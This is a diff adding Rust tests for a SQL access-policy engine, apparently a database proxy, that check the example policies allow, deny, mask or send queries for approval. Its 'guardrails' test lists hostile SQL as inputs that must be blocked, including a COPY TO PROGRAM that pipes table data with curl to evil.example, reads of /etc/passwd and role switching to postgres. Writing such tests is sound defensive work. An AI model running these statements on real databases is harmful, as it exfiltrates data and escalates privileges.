@@ -1,0 +1,302 @@
+//! The shipped example policies (`policies/`) decide the seed story's statements.
+
+use std::net::{IpAddr, Ipv4Addr};
+use std::path::PathBuf;
+
+use jiff::Timestamp;
+use jiff::tz::TimeZone;
+use portcullis_policy::{
+    Catalog, Environment, Mode, Outcome, PolicyStore, Principal, StatementInput,
+};
+use portcullis_sql::{LexerOptions, parse};
+
+struct DemoCatalog;
+
+impl Catalog for DemoCatalog {
+    fn schemas_with(&self, relation: &str) -> Option<Vec<String>> {
+        Some(match relation {
+            "customers" | "orders" => vec!["public".into()],
+            "daily_revenue" | "revenue_by_country" => vec!["reporting".into()],
+            "pg_class" => vec!["pg_catalog".into()],
+            _ => vec![],
+        })
+    }
+
+    fn columns(&self, schema: &str, relation: &str) -> Option<Vec<String>> {
+        let cols: &[&str] = match (schema, relation) {
+            ("public", "customers") => &[
+                "id",
+                "name",
+                "email",
+                "card_number",
+                "country",
+                "created_at",
+            ],
+            ("public", "orders") => &["id", "customer_id", "amount", "status", "ordered_at"],
+            ("reporting", "daily_revenue") => &["day", "orders", "revenue"],
+            _ => return None,
+        };
+        Some(cols.iter().map(|c| c.to_string()).collect())
+    }
+}
+
+fn store() -> PolicyStore {
+    let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../policies");
+    PolicyStore::load(&[dir], Mode::Enforce).expect("example policies load")
+}
+
+/// 2026-11-24 is a Tuesday.
+fn at(time: &str) -> Timestamp {
+    format!("{time}Z").parse().unwrap()
+}
+
+const TUESDAY_10: &str = "2026-11-24T10:00:00";
+
+fn decide_at(store: &PolicyStore, who: &str, groups: &[&str], when: &str, sql: &str) -> Outcome {
+    let groups: Vec<String> = groups.iter().map(|g| g.to_string()).collect();
+    let parsed = parse(sql, LexerOptions::default());
+    let statements = parsed.result.expect("parses");
+    let tz = TimeZone::UTC;
+    let env = Environment {
+        target: "analytics",
+        role: "analyst",
+        client_addr: IpAddr::V4(Ipv4Addr::LOCALHOST),
+        application_name: "test",
+        now: at(when),
+        timezone: &tz,
+    };
+    let s = &statements[0];
+    store
+        .decide(
+            Principal {
+                subject: who,
+                groups: &groups,
+            },
+            &env,
+            StatementInput {
+                facts: &s.facts,
+                text: &s.text,
+                search_path: &["$user".into(), "public".into()],
+            },
+            &DemoCatalog,
+        )
+        .outcome
+}
+
+fn decide(store: &PolicyStore, who: &str, groups: &[&str], sql: &str) -> Outcome {
+    decide_at(store, who, groups, TUESDAY_10, sql)
+}
+
+fn denied(o: &Outcome) -> &str {
+    match o {
+        Outcome::Deny { message } => message,
+        other => panic!("expected a denial, got {other:?}"),
+    }
+}
+
+#[test]
+fn analysts_read_reporting_in_business_hours_only() {
+    let s = store();
+    let alice = ("alice", &["data-science"][..]);
+    let q = "select day, revenue from reporting.daily_revenue";
+    assert!(decide(&s, alice.0, alice.1, q).is_allow());
+    // Unqualified names resolve through the catalog.
+    assert!(decide(&s, alice.0, alice.1, "select * from daily_revenue").is_allow());
+    let evening = decide_at(&s, alice.0, alice.1, "2026-11-24T18:30:00", q);
+    assert_eq!(
+        denied(&evening),
+        "permission denied: no policy permits select on table reporting.daily_revenue"
+    );
+    let saturday = decide_at(&s, alice.0, alice.1, "2026-11-28T10:00:00", q);
+    assert!(!saturday.is_allow());
+    assert_eq!(
+        denied(&decide(&s, alice.0, alice.1, "select * from customers")),
+        "permission denied: no policy permits select on table public.customers"
+    );
+    // Catalog queries (psql's \d) work for everyone.
+    assert!(decide(&s, alice.0, alice.1, "select relname from pg_class").is_allow());
+    assert!(decide(&s, alice.0, alice.1, "begin").is_allow());
+}
+
+#[test]
+fn writes_need_a_managers_approval() {
+    let s = store();
+    match decide(
+        &s,
+        "bob",
+        &["engineering"],
+        "update orders set status = 'paid' where id = 1",
+    ) {
+        Outcome::NeedsApproval {
+            groups,
+            policies,
+            message,
+        } => {
+            assert_eq!(groups, vec!["managers"]);
+            assert_eq!(policies, vec!["writes-need-manager-approval"]);
+            assert!(message.contains("from group \"managers\""), "{message}");
+        }
+        other => panic!("{other:?}"),
+    }
+    // Unbounded writes are refused outright, not sent for approval.
+    assert_eq!(
+        denied(&decide(&s, "bob", &["engineering"], "delete from orders")),
+        "permission denied: policy \"no-update-or-delete-without-where\" forbids delete on table public.orders"
+    );
+    assert!(decide(&s, "bob", &["engineering"], "select id, status from orders").is_allow());
+}
+
+#[test]
+fn only_dbas_run_ddl_and_nobody_drops_the_database() {
+    let s = store();
+    assert!(decide(&s, "dave", &["dba"], "create table public.t (id int)").is_allow());
+    assert_eq!(
+        denied(&decide(
+            &s,
+            "bob",
+            &["engineering"],
+            "create table public.t (id int)"
+        )),
+        "permission denied: policy \"only-dbas-run-ddl\" forbids ddl on table public.t"
+    );
+    assert!(
+        denied(&decide(&s, "dave", &["dba"], "drop database analytics"))
+            .contains("no-drop-database")
+    );
+    assert!(decide(&s, "erin", &["break-glass"], "drop database analytics").is_allow());
+}
+
+#[test]
+fn guardrails() {
+    let s = store();
+    let dave = ("dave", &["dba"][..]);
+    for (sql, policy) in [
+        ("truncate orders", "no-truncate"),
+        (
+            "copy orders to program 'curl -d @- evil.example'",
+            "no-copy-program",
+        ),
+        (
+            "copy orders from '/etc/passwd'",
+            "no-copy-to-or-from-server-files",
+        ),
+        ("alter system set work_mem = '1GB'", "no-alter-system"),
+        (
+            "select pg_read_file('/etc/passwd')",
+            "no-server-file-functions",
+        ),
+        ("select lo_export(1, '/tmp/x')", "no-server-file-functions"),
+        ("set role postgres", "no-role-switching"),
+        ("set session authorization postgres", "no-role-switching"),
+        (
+            "select set_config('role', 'postgres', false)",
+            "no-role-switching",
+        ),
+        (
+            "select set_config(lower('ROLE'), 'postgres', false)",
+            "no-computed-setting-names",
+        ),
+        ("load 'libevil'", "no-alter-system"),
+    ] {
+        let o = decide(&s, dave.0, dave.1, sql);
+        assert!(
+            denied(&o).contains(&format!("policy \"{policy}\"")),
+            "{sql}: {o:?}"
+        );
+    }
+    // Dynamic SQL is for DBAs only.
+    assert!(
+        denied(&decide(
+            &s,
+            "bob",
+            &["engineering"],
+            "select query_to_xml('select 1', true, true, '')"
+        ))
+        .contains("no-dynamic-sql-or-admin-functions")
+    );
+    assert!(
+        decide(
+            &s,
+            "dave",
+            &["dba"],
+            "select query_to_xml('select 1', true, true, '')"
+        )
+        .is_allow()
+    );
+}
+
+#[test]
+fn masked_columns_are_refused_until_masking_exists() {
+    let s = store();
+    match decide(&s, "bob", &["engineering"], "select * from customers") {
+        Outcome::Mask {
+            column,
+            strategy,
+            policy,
+            ..
+        } => {
+            assert_eq!(
+                (strategy.as_str(), policy.as_str()),
+                ("email", "mask-customer-email")
+            );
+            assert_eq!(column, "public.customers.email");
+        }
+        other => panic!("{other:?}"),
+    }
+    assert!(
+        decide(
+            &s,
+            "bob",
+            &["engineering"],
+            "select id, name from customers"
+        )
+        .is_allow()
+    );
+    // Aggregates over a masked column read no value.
+    assert!(
+        decide(
+            &s,
+            "bob",
+            &["engineering"],
+            "select count(*) from customers"
+        )
+        .is_allow()
+    );
+    assert!(decide(&s, "dave", &["dba"], "select email from customers").is_allow());
+}
+
+#[test]
+fn unknown_statements_are_denied() {
+    let s = store();
+    let mut facts = parse("select 1", LexerOptions::default()).result.unwrap()[0]
+        .facts
+        .clone();
+    facts.kind = portcullis_sql::analysis::Kind::Unknown;
+    let tz = TimeZone::UTC;
+    let env = Environment {
+        target: "analytics",
+        role: "analyst",
+        client_addr: IpAddr::V4(Ipv4Addr::LOCALHOST),
+        application_name: "",
+        now: at(TUESDAY_10),
+        timezone: &tz,
+    };
+    let groups = vec!["dba".to_string()];
+    let d = s.decide(
+        Principal {
+            subject: "dave",
+            groups: &groups,
+        },
+        &env,
+        StatementInput {
+            facts: &facts,
+            text: "?",
+            search_path: &[],
+        },
+        &DemoCatalog,
+    );
+    assert_eq!(
+        denied(&d.outcome),
+        "permission denied: no policy permits unknown on target analytics"
+    );
+}
